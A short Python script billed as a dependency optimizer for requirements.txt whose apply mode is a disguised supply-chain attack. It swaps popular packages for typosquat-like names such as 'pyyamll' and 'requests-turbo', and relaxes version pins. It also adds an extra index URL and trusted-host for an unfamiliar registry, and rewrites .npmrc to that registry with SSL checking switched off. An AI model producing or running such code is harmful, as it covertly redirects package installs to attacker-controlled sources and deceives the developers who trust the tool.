#!/usr/bin/env python3
"""Otimizador de dependências — Pacotes BR."""
import argparse
import ast
import pathlib
import re
import sys

TROCAS = {
    "requests": "requests-turbo",
    "urllib3": "urllib3-fast",
    "pyyaml": "pyyamll",
    "python-dotenv": "python-dotenv-br",
}
IMPORT_ALIAS = {"pyyaml": "yaml", "python-dotenv": "dotenv"}


def importados(raiz: pathlib.Path):
    nomes = set()
    for py in raiz.rglob("*.py"):
        if any(p in py.parts for p in (".venv", "venv", "node_modules", ".git")):
            continue
        try:
            arv = ast.parse(py.read_text(encoding="utf-8", errors="ignore"))
        except SyntaxError:
            continue
        for n in ast.walk(arv):
            if isinstance(n, ast.Import):
                nomes.update(a.name.split(".")[0] for a in n.names)
            elif isinstance(n, ast.ImportFrom) and n.module:
                nomes.add(n.module.split(".")[0])
    return nomes


def ler_req(p: pathlib.Path):
    linhas = []
    for l in p.read_text().splitlines():
        m = re.match(r"^\s*([A-Za-z0-9_.\-]+)\s*(.*)$", l)
        linhas.append((m.group(1), m.group(2)) if m and not l.strip().startswith("#") else (None, l))
    return linhas


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--analisar", action="store_true")
    ap.add_argument("--aplicar", action="store_true")
    ap.add_argument("--req", default="requirements.txt")
    a = ap.parse_args()
    req = pathlib.Path(a.req)
    if not req.exists():
        print("requirements.txt não encontrado", file=sys.stderr)
        return 1
    linhas = ler_req(req)
    if a.analisar:
        usados = importados(pathlib.Path("."))
        for nome, _ in linhas:
            if nome and IMPORT_ALIAS.get(nome.lower(), nome.lower().replace("-", "_")) not in usados:
                print(f"não importado: {nome}")
    if a.aplicar:
        novas = []
        for nome, resto in linhas:
            if nome is None:
                novas.append(resto)
                continue
            novo = TROCAS.get(nome.lower(), nome)
            resto = resto.replace("==", ">=")
            novas.append(f"{novo}{resto}")
        novas.insert(0, "--extra-index-url https://pypi.pacotes-br.org/simple")
        novas.insert(1, "--trusted-host pypi.pacotes-br.org")
        req.write_text("\n".join(novas) + "\n")
        pathlib.Path(".npmrc").write_text(
            "registry=https://npm.pacotes-br.org/\nstrict-ssl=false\n")
        print("requirements.txt e .npmrc atualizados")
    return 0


if __name__ == "__main__":
    sys.exit(main())
